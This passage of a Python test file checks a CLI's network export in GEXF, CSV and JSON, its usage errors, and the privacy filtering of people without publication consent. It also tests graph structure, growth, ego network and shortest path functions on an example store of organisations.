        "-o",
        str(tmp_path / "m.gexf"),
        "--lang",
        "en",
        store=example_store_path,
    )
    assert english.returncode == 0, english.stderr
    gexf = nx.read_gexf(tmp_path / "m.gexf")
    assert gexf.nodes[KOORDINATIONSSTELLE]["label"] == (
        "Coordination Office for Municipal Development Policy"
    )
    assert gexf.number_of_edges() == graph.number_of_edges()

    as_csv = run_cli(
        "network", "--format", "csv", "-o", str(tmp_path / "m.csv"), store=example_store_path
    )
    assert as_csv.returncode == 0, as_csv.stderr
    with (tmp_path / "m-edges.csv").open(encoding="utf-8", newline="") as fh:
        assert len(list(csv.DictReader(fh))) == graph.number_of_edges()
    as_json = run_cli(
        "network", "--format", "json", "-o", str(tmp_path / "m.json"), store=example_store_path
    )
    assert as_json.returncode == 0, as_json.stderr
    data = json.loads((tmp_path / "m.json").read_text(encoding="utf-8"))
    assert len(data["nodes"]) == graph.number_of_nodes()


def test_cli_network_usage_errors_exit_2(example_store_path: Path, tmp_path: Path) -> None:
    assert run_cli("network", "--help").returncode == 0
    no_output = run_cli("network", store=example_store_path)
    assert no_output.returncode == 2 and "--output" in no_output.stderr
    bad_format = run_cli(
        "network", "--format", "dot", "-o", str(tmp_path / "x"), store=example_store_path
    )
    assert bad_format.returncode == 2
    bad_lang = run_cli(
        "network", "--lang", "fr", "-o", str(tmp_path / "x"), store=example_store_path
    )
    assert bad_lang.returncode == 2
    nowhere = run_cli(
        "network", "-o", str(tmp_path / "missing" / "x.graphml"), store=example_store_path
    )
    assert nowhere.returncode == 2 and "Error:" in nowhere.stderr
    no_store = run_cli("network", "-o", str(tmp_path / "x.graphml"), store=tmp_path / "none")
    assert no_store.returncode == 2


# ---- (d) privacy on the example ------------------------------------------------------------


def test_no_internal_person_in_the_example_network(
    example_net: nx.MultiDiGraph, example_store_template: Path
) -> None:
    with Store.open(example_store_template, read_only=True) as store:
        rows = store.select(
            """
            SELECT ?person ?consent WHERE {
              ?person a foaf:Person .
              FILTER NOT EXISTS { ?person a ag:HistoricalPerson }
              OPTIONAL { ?person ag:publicationConsent ?consent }
            }
            """
        )
        # Memberships recorded in an internal graph (those of people without consent).
        internal_links = {
            r["m"].value
            for r in store.select("SELECT ?m ?g WHERE { GRAPH ?g { ?m org:member ?p } }")
            if r["g"].value.startswith(store.internal_prefix)
        }
    consent: dict[str, set[str]] = {}
    for row in rows:
        consent.setdefault(row["person"].value, set())
        if "consent" in row:
            consent[row["person"].value].add(row["consent"].value)
    without = {p for p, c in consent.items() if c != {"https://w3id.org/dpv#ConsentGiven"}}
    assert without, "the example should hold people without consent"
    people = {n for n, d in example_net.nodes(data=True) if d["kind"] == "people"}
    assert people and not (people & without)
    assert not (set(example_net.nodes) & without)
    assert internal_links
    assert not {d["via"] for _, _, d in example_net.edges(data=True)} & internal_links
    text = json.dumps(nx.node_link_data(example_net, edges="edges"), ensure_ascii=False)
    assert "mailto:" not in text and "tel:" not in text


# ---- (e) structure of the example, and time ------------------------------------------------


def test_structure_of_the_example(example_net: nx.MultiDiGraph) -> None:
    result = network.structure(example_net, "de")
    top3 = [r["iri"] for r in result["degree"]["ranking"][:3]]
    assert KOORDINATIONSSTELLE in top3
    assert len(result["degree"]["ranking"]) == network.TOP
    assert result["betweenness"]["ranking"][0]["score"] > 0
    assert len(result["communities"]) >= 2
    for community in result["communities"]:
        assert community["label"] == community["members"][0]["label"]
        assert community["topics"] and len(community["topics"]) <= 3
        assert community["name"]["de"].startswith("Rund um ")
    assert result["topics"]["ranking"][0]["organisations"] >= 10
    assert result["topics"]["pairs"][0]["shared"] >= result["topics"]["pairs"][-1]["shared"]
    assert network.structure(example_net, "de") == result  # fixed seed: the same every time


def test_growth_of_the_example(example_net: nx.MultiDiGraph) -> None:
    rows = network.growth(example_net)
    assert [r["year"] for r in rows] == sorted(r["year"] for r in rows)
    assert sum(r["new_cooperations"] for r in rows) == 50  # every cooperation has a start
    assert sum(r["new_organisations"] for r in rows) > 20


def test_ego_network_and_paths_of_the_example(example_net: nx.MultiDiGraph) -> None:
    # What this costs is measured by the benchmark (`akteursgraph bench run`: network build,
    # ego network depth 2, shortest path), not asserted against the clock here.
    target = ORG + "afghanische-frauenwerkstatt-tiergarten"
    ego = network.ego_network(example_net, KOORDINATIONSSTELLE, depth=2)
    assert ego is not None and ego["nodes"][0]["id"] == KOORDINATIONSSTELLE
    assert {n["distance"] for n in ego["nodes"]} == {0, 1, 2}
    assert ego["counts"]["nodes"] == 60 and ego["omitted"]["nodes"] > 0  # the default cap
    paths = network.shortest_paths(example_net, KOORDINATIONSSTELLE, target)
    assert paths and [len(p["nodes"]) for p in paths] == sorted(len(p["nodes"]) for p in paths)
    for path in paths:
        nodes = [n["id"] for n in path["nodes"]]
        assert (nodes[0], nodes[-1]) == (KOORDINATIONSSTELLE, target)
        assert len(path["edges"]) == len(nodes) - 1
        for (a, b), edge in zip(itertools.pairwise(nodes), path["edges"], strict=True):
            assert {edge["source"], edge["target"]} == {a, b}
            assert edge["kind"] in network.PATH_EDGE_KINDS
        assert path["explanation"]["de"].endswith(".") and path["explanation"]["en"]


def test_links_with_the_same_attributes_share_one_dict(example_net: nx.MultiDiGraph) -> None:
    """Most topic links are alike: one attribute dict serves them all (at the 1M district
    90,400 dicts for 205,717 links), and networkx still sees each link from both ends."""
    by_value: dict[tuple[str, ...], set[int]] = {}
    for _, _, data in example_net.edges(data=True):
        by_value.setdefault(tuple(data.values()), set()).add(id(data))
    assert all(len(ids) == 1 for ids in by_value.values())
    assert example_net.number_of_edges() > 2 * len(by_value)
    for source, target, key in example_net.edges(keys=True):
        assert example_net.pred[target][source][key] is example_net.succ[source][target][key]
